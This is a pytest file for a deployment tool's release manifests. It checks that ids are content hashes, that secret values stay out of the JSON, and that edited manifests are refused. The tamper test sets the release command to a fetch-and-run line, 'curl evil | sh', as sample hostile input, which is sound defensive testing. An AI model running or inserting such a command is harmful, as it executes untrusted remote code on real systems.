"""Release ids: what changes them (code, deps, env, secrets, command...) and what does not (`created`)."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from launchpad.release.manifest import (
    Manifest, ManifestError, Pointer, Secrets, history, new_manifest, secrets_version,
)

BASE: dict[str, Any] = dict(
    artifact="a" * 64, artifact_bytes=1234, source_hash="b" * 64, deps_hash="c" * 16, deps="requirements.txt",
    app="journal", module="journal:create_app()", env={"LOG_LEVEL": "info"},
    secrets=Secrets(secrets_version({"SECRET_KEY": "s3"}, "dev"), ("SECRET_KEY",)),
    release_command="flask db upgrade", health_path="/healthz", static={"/static/": "journal/static/"},
    writable=("logs",), workers=2, threads=4, keep=5,
)


def test_id_is_12_hex_of_the_content_and_ignores_created() -> None:
    a = new_manifest(**BASE, created="2026-01-01T00:00:00Z")
    b = new_manifest(**BASE, created="2027-06-30T12:34:56Z")
    assert a.id == b.id and len(a.id) == 12 and int(a.id, 16) >= 0
    assert a.created != b.created


@pytest.mark.parametrize("change", [
    {"artifact": "d" * 64, "source_hash": "e" * 64},                      # code
    {"deps_hash": "f" * 16},                                               # dependencies
    {"env": {"LOG_LEVEL": "debug"}},                                       # env
    {"secrets": Secrets(secrets_version({"SECRET_KEY": "other"}, "dev"), ("SECRET_KEY",))},  # a secret's value
    {"release_command": "flask db upgrade && flask seed"},                 # release command
    {"release_command": None},
    {"module": "journal:create_app('prod')"},
    {"health_path": None},
    {"static": {"/assets/": "dist/"}},
    {"writable": ("logs", "uploads")},
    {"workers": 3},
    {"keep": 10},
])
def test_every_input_changes_the_id(change: dict[str, Any]) -> None:
    assert new_manifest(**{**BASE, **change}).id != new_manifest(**BASE).id


def test_secrets_version_hides_values_and_depends_on_stack_and_values() -> None:
    v = secrets_version({"SECRET_KEY": "hunter2", "API_TOKEN": "t"}, "dev")
    assert len(v) == 16 and "hunter2" not in v
    assert v == secrets_version({"API_TOKEN": "t", "SECRET_KEY": "hunter2"}, "dev"), "order does not matter"
    assert v != secrets_version({"SECRET_KEY": "hunter2", "API_TOKEN": "t"}, "prod")
    assert v != secrets_version({"SECRET_KEY": "hunter3", "API_TOKEN": "t"}, "dev")
    assert v != secrets_version({"SECRET_KEY2": "hunter2", "API_TOKEN": "t"}, "dev")
    assert secrets_version({}, "dev") == ""


def test_json_follows_the_contract_and_round_trips() -> None:
    m = new_manifest(**BASE, created="2026-01-01T00:00:00Z")
    data = json.loads(m.to_json())
    assert set(data) == {"schema", "id", "created", "artifact", "artifact_bytes", "source_hash", "deps_hash", "deps",
                         "app", "module", "env", "secrets", "release_command", "health_path", "static", "writable",
                         "workers", "threads", "keep"}
    assert data["schema"] == 1 and data["secrets"] == {"version": BASE["secrets"].version, "names": ["SECRET_KEY"]}
    assert "s3" not in m.to_json()
    assert Manifest.from_json(m.to_json()) == m


def test_an_edited_manifest_is_refused() -> None:
    data = json.loads(new_manifest(**BASE).to_json())
    data["release_command"] = "curl evil | sh"
    with pytest.raises(ManifestError, match="hashes to"):
        Manifest.from_dict(data)
    with pytest.raises(ManifestError, match="schema"):
        Manifest.from_dict({**data, "schema": 2})


def test_pointer_and_history() -> None:
    p = Pointer.to("0123456789ab", at="2026-01-01T00:00:00Z")
    assert Pointer.from_json(p.to_json()) == p
    with pytest.raises(ManifestError, match="12 lowercase hex"):
        Pointer.to("latest")
    old = new_manifest(**BASE, created="2026-01-01T00:00:00Z")
    new = new_manifest(**{**BASE, "workers": 9}, created="2026-01-02T00:00:00Z")
    assert [m.id for m in history([old, new])] == [new.id, old.id]
    assert replace(old, created="x").content_id() == old.id
